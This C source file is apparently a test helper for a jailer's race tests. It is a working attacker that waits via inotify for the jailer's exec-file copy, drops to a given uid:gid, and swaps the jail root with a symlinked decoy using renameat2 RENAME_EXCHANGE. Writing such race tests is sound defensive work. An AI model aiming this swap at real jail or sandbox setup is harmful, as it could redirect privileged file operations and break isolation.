/* The attacker of tests/jailer/t_jailer.sh's race tests, as the review ran it: waits
 * until something is created in DIR/A (the jailer's copy of the exec file, made in
 * step 3 inside the jail root A), then exchanges the names A and B at once
 * (renameat2 RENAME_EXCHANGE), as the given uid:gid. With B a symbolic link to a
 * decoy directory, a jailer that goes back to the jail path after its copy builds
 * the rest of the jail in the decoy.
 *   jailrace UID GID DIR A B SECS
 * prints READY once it watches, then "swapped" or "timeout" (after SECS). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	if (argc != 7) {
		fprintf(stderr, "usage: jailrace UID GID DIR A B SECS\n");
		return 2;
	}
	uid_t uid = (uid_t)atoi(argv[1]);
	gid_t gid = (gid_t)atoi(argv[2]);
	/* Opened first: the test's work directory is root's and closed to others; the
	 * exchange itself is checked against DIR's owner only. */
	int dir = open(argv[3], O_RDONLY | O_DIRECTORY);
	int in = inotify_init1(IN_CLOEXEC);
	char watched[4096];
	snprintf(watched, sizeof(watched), "%s/%s", argv[3], argv[4]);
	if (dir < 0 || in < 0 || inotify_add_watch(in, watched, IN_CREATE | IN_ONLYDIR) < 0) {
		perror(watched);
		return 1;
	}
	if (setgroups(0, NULL) || setresgid(gid, gid, gid) || setresuid(uid, uid, uid)) {
		perror("jailrace: dropping to UID:GID");
		return 1;
	}
	puts("READY");
	fflush(stdout);
	struct pollfd p = {.fd = in, .events = POLLIN};
	if (poll(&p, 1, atoi(argv[6]) * 1000) != 1) {
		puts("timeout");
		fflush(stdout);
		return 0;
	}
	if (syscall(SYS_renameat2, dir, argv[4], dir, argv[5], RENAME_EXCHANGE)) {
		perror("jailrace: renameat2");
		return 1;
	}
	puts("swapped");
	fflush(stdout);
	return 0;
}
